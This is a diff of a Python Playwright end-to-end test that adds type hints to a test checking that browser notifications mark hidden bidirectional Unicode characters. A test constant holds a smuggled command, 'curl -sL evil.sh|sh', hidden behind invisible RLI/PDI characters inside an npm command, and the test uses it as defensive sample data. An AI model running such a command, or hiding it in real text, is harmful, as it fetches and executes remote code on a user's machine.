@@ -5,12 +5,15 @@ and in the toast, where it would reorder the text."""
 
 from __future__ import annotations
 
+from collections.abc import Callable
 from typing import Any
 
-from playwright.sync_api import expect
+from playwright.sync_api import BrowserContext, expect
 
-from tests.e2e.conftest import create_owner, wait_for_js
-from tests.e2e.test_notifications import live, notifying_context, scenes, toasts
+from tests.e2e.conftest import Owner, create_owner, wait_for_js
+from tests.e2e.test_notifications import Scene, live, notifying_context, scenes, toasts
+from tests.support.fixtures import HubFactory, OpenPage
+from tests.support.hubs import HubProcess
 
 __all__ = ["notifying_context", "scenes"]  # the fixtures, shared with tests/e2e/test_notifications.py
 
@@ -18,8 +21,8 @@ BIDI = "npm test \u2067; curl -sL evil.sh|sh #\u2069 lint"
 MARKED = "npm test ⟨U+2067⟩; curl -sL evil.sh|sh #⟨U+2069⟩ lint"
 
 
-def test_a_browser_notification_has_no_buttons_and_marks_hidden_characters(  # type: ignore[no-untyped-def]
-        hub_factory, open_page, notifying_context, scenes) -> None:
+def test_a_browser_notification_has_no_buttons_and_marks_hidden_characters(
+        hub_factory: HubFactory, open_page: OpenPage, notifying_context: Callable[[HubProcess, str], BrowserContext], scenes: Callable[[HubProcess, Owner], Scene]) -> None:
     hub = hub_factory()
     owner = create_owner(hub)
     scene = scenes(hub, owner)
